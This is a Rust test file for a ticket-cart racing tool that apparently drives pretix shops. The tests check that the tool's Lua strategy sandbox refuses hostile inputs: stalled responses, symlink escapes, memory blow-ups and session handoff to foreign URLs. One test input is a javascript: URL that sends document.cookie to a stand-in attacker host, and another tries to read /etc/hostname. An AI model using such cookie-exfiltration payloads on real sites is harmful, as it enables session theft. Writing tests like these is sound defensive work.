//! What an adversarial try of the guarantees found, each kept as a test from the hostile side: a
//! cart POST whose answer stalls after its headers, a strategy that hands the session over on a
//! site nobody named.

use pretix_race::sim::{Fault, Scenario, SimListing};

use crate::robust::{SECURE_FIRST, assert_cart_handed_over_at_exit};
use crate::support::Race;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cart_posts_answer_that_stalls_after_its_headers_is_still_a_cart() {
    // The won cart POST answers 302 to the checkout with its cookies, then its body stalls (and
    // so does the checkout page): the redirect's headers are the outcome.
    let mut s = Scenario {
        listings_from_poll: 1,
        listings: vec![SimListing::new("s7a11c4r7x", "Ticket – Type A", 19_000)],
        ..Scenario::default()
    };
    s.faults.insert(1, Fault::CartAnswerStall);
    let d = Race::new(s).args(["--stall-after", "2"]).run().await;
    assert_eq!(d.code, 0, "{d:?}");
    assert!(d.stdout.contains("=== TICKET IN CART ==="), "{d:?}");
    assert_eq!(d.sim.cart_of(&d.handed_session()), ["Ticket – Type A"]);
    assert_eq!(d.posts().len(), 1, "one cart POST, never sent again: {d:?}");
    assert_eq!(d.logged("cookies.txt").len(), 1, "{d:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_strategy_cannot_hand_the_session_over_on_another_site() {
    for elsewhere in [
        "https://127.0.0.1:1/rehearsal/checkout/questions/",
        "javascript:fetch('https://evil.test/?'+document.cookie)//checkout/",
        "data:text/html,<b>/checkout/questions/",
    ] {
        let d = Race::named("instant")
            .script(&format!(
                "{SECURE_FIRST}race.session:handoff({elsewhere:?}, {{ headless = true }})\n"
            ))
            .run()
            .await;
        assert_eq!(d.code, 3, "{elsewhere}: {d:?}");
        assert!(
            d.stderr.contains("is not a page of a shop being watched"),
            "{elsewhere}: {d:?}"
        );
        assert!(!d.stdout.contains("127.0.0.1:1/"), "{elsewhere}: {d:?}");
        assert!(!d.stdout.contains("javascript:"), "{elsewhere}: {d:?}");
        assert!(!d.stdout.contains("data:"), "{elsewhere}: {d:?}");
        // The real cart is handed over as the run ends, on its own shop.
        assert_cart_handed_over_at_exit(&d);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_string_held_many_times_cannot_grow_json_past_the_memory_cap() {
    // 400 references to one 2 MB string: 800 MB of JSON under a 64 MB cap. Measured before any
    // of it is built: the script's error, never an aborted process holding a cart.
    let d = Race::named("instant")
        .args(["--memory-limit-mb", "64"])
        .script(&format!(
            r#"{SECURE_FIRST}
local x = string.rep("x", 2 * 1024 * 1024)
local t = {{}}
for i = 1, 400 do t[i] = x end
for _, f in ipairs({{ race.json.encode, function(v) return race.store.set("k", v) end,
                     function(v) return race.alert.event("tickets_available", {{ listings = v }}) end }}) do
  local ok, err = pcall(f, t)
  assert(not ok and tostring(err):find("too large to write out", 1, true), tostring(err))
end
local loop = {{}}
loop.self = loop
local ok, err = pcall(race.json.encode, loop)
assert(not ok and tostring(err):find("nested deeper", 1, true), tostring(err))
error("ALL " .. "REFUSED")
"#
        ))
        .run()
        .await;
    assert_eq!(d.code, 3, "{d:?}");
    assert!(d.stderr.contains("ALL REFUSED"), "{d:?}");
    assert_cart_handed_over_at_exit(&d);
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn require_follows_no_link_out_of_the_strategys_folder() {
    // A shared strategy's repository can carry links: to a file and to a folder outside it.
    let tmp = tempfile::tempdir().unwrap();
    let (strat, outside) = (tmp.path().join("strat"), tmp.path().join("outside"));
    std::fs::create_dir_all(&strat).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("mod.lua"), "return 'OUTSIDE-FILE-READ'").unwrap();
    std::fs::write(strat.join("good.lua"), "return 'beside'").unwrap();
    std::os::unix::fs::symlink(outside.join("mod.lua"), strat.join("lnk.lua")).unwrap();
    std::os::unix::fs::symlink(&outside, strat.join("sub")).unwrap();
    std::fs::write(
        strat.join("s.lua"),
        r#"
assert(require("good") == "beside")
for _, name in ipairs({ "lnk", "sub.mod" }) do
  local ok, err = pcall(require, name)
  assert(not ok and tostring(err):find("outside the strategy's folder", 1, true), name .. ": " .. tostring(err))
end
assert(not pcall(package.searchpath, "x", "/etc/hostname"))
error("LINKS " .. "REFUSED")
"#,
    )
    .unwrap();
    let script = strat.join("s.lua");
    let (code, out, err) = crate::support::bare(
        &[
            "rehearse",
            "--headless",
            "--script",
            script.to_str().unwrap(),
        ],
        tmp.path(),
    )
    .await;
    assert_eq!(code, 3, "{out}\n{err}");
    assert!(err.contains("LINKS REFUSED"), "{err}");
    assert!(
        !out.contains("OUTSIDE") && !err.contains("OUTSIDE"),
        "{err}"
    );
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_log_dir_inside_a_folder_others_can_write_is_refused() {
    // Whoever may rename entries in a parent can swap the folder for a link after the check.
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let open = tmp.path().join("open");
    let logs = open.join("logs");
    std::fs::create_dir_all(&logs).unwrap();
    std::fs::set_permissions(&logs, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
    let args = |dir: &std::path::Path| {
        vec![
            "--url".to_string(),
            "https://tickets.example.com".into(),
            "--event".into(),
            "ev".into(),
            "--headless".into(),
            "--log-dir".into(),
            dir.display().to_string(),
        ]
    };
    for dir in [logs.clone(), logs.join("not-yet")] {
        let a = args(&dir);
        let (code, _, err) = crate::support::bare(
            &a.iter().map(String::as_str).collect::<Vec<_>>(),
            tmp.path(),
        )
        .await;
        assert_eq!(code, 2, "{}: {err}", dir.display());
        assert!(err.contains("is open to others' writes"), "{err}");
    }
    // Sticky, as /tmp is: others cannot rename what is ours there.
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let d = Race::named("instant")
        .args(["--log-dir", logs.to_str().unwrap()])
        .run()
        .await;
    assert_eq!(d.code, 0, "{d:?}");
    assert_eq!(
        crate::support::logged_in(&logs, ".cookies.").len(),
        2,
        "{d:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unread_pages_a_strategy_keeps_count_against_the_memory_cap() {
    // 30 answers of 5 MB each (every other poll: no run of unreadable pages to back off
    // from), kept and never read: 150 MB of pages outside Lua's allocator under a 64 MB cap.
    // The script runs out of memory, as it would holding their strings.
    let mut s = Scenario::named("quiet").unwrap();
    for n in 0..30 {
        s.faults.insert(2 * n + 1, Fault::Deep);
    }
    let d = Race::new(s)
        .args(["--memory-limit-mb", "64"])
        .script(
            r#"
local race = require("race")
local url = race.options.event_url .. "secondhand/"
local keep = {}
local ok, err = pcall(function()
  for i = 1, 60 do keep[i] = assert(race.session:poll(url)) end
end)
assert(not ok and tostring(err):find("answers' pages", 1, true), tostring(err))
error("CAP" .. "PED after " .. #keep)
"#,
        )
        .run()
        .await;
    assert_eq!(d.code, 3, "{d:?}");
    // Spelled apart in the source: the report's source listing cannot match.
    assert!(d.stderr.contains("CAPPED after "), "{d:?}");
}
